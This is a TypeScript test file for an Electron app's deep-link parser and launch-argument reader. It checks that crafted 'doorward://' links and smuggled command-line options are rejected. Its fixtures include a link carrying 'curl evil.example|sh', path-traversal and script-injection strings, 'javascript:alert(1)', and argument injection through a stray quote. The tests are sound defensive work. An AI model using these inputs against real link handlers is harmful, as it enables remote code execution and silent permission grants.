import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { screen } from '../../shared/ipc/window.ts';
import { parseLink } from '../../electron/shell/deep-links.ts';
import { readArguments } from '../../electron/shell/launch-arguments.ts';

/** Every web page can open a `doorward://` link without a word from the person. */
describe('a link that wants more than to show a screen', () => {
  it.each([
    'doorward://server/add?command=curl%20evil.example|sh',
    'doorward://add/evil',
    'doorward://open/servers?add=evil',
    'doorward://open/servers#approve',
    'doorward://open/servers/evil/approve',
    'doorward://open/approve',
    'doorward://open/apps/..%2f..%2fevil',
    'doorward://open/apps/%3Cscript%3E',
    `doorward://open/activity/${'a'.repeat(81)}`,
    'doorward://open',
    'doorward://open/',
    'doorward:open/servers',
    'doorward://user@open/servers',
    'doorward://open:80/servers',
    'doorward://approve/servers',
    'doorward://OPEN.evil/servers',
    'doorward://approval/allow/q1',
    'doorward://open/approval/q1',
    'doorward://open/permissions?allow=mail',
    'doorward://open/permissions#always',
    'doorward://open/permissions/rule/add',
    'doorward://open/needs-you/q1/allow',
    'doorward://allow/permissions',
    'doorward://guard/usual',
    'https://open/servers',
    'javascript:alert(1)',
    `doorward://open/servers/${'x'.repeat(500)}`,
    'doorward://open/servers/a b',
    '',
  ])('means nothing: %s', (url) => {
    expect(parseLink(url)).toBeUndefined();
  });

  it('yields nothing but a screen and a plain name', () => {
    expect(parseLink('doorward://open/servers/files')).toEqual({ screen: 'servers', item: 'files' });
    expect(parseLink('doorward://open/permissions')).toEqual({ screen: 'permissions' });
    expect(parseLink('doorward://open/permissions/always')).toEqual({
      screen: 'permissions',
      item: 'always',
    });
  });

  it('yields nothing else whatever it is made of', () => {
    const word = fc.oneof(
      fc.constantFrom(
        'open',
        'permissions',
        'needs-you',
        'allow',
        'approval',
        'q1',
        'always',
        '?',
        '#',
        '..',
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 5 }), (words) => {
        const to = parseLink(`doorward://${words.join('/')}`);
        if (to === undefined) return;
        expect(Object.keys(to).filter((key) => key !== 'item')).toEqual(['screen']);
        expect(screen.options).toContain(to.screen);
        expect(to.item ?? 'x').toMatch(/^[\w.-]{1,80}$/);
      }),
    );
  });
});

/** On Windows and Linux the link is a word of the command line, quoted by whoever starts the app. */
describe('a link on the command line', () => {
  it('brings no options along', () => {
    expect(
      readArguments(['doorward://open/apps" ', '--home', String.raw`C:\evil`, '--self-test', '--port=1']),
    ).toEqual({
      home: undefined,
      port: undefined,
      hidden: false,
      selfTest: false,
      link: 'doorward://open/apps" ',
    });
    expect(readArguments(['DoorWard:x', '--hidden'])).toMatchObject({ hidden: false });
  });
});
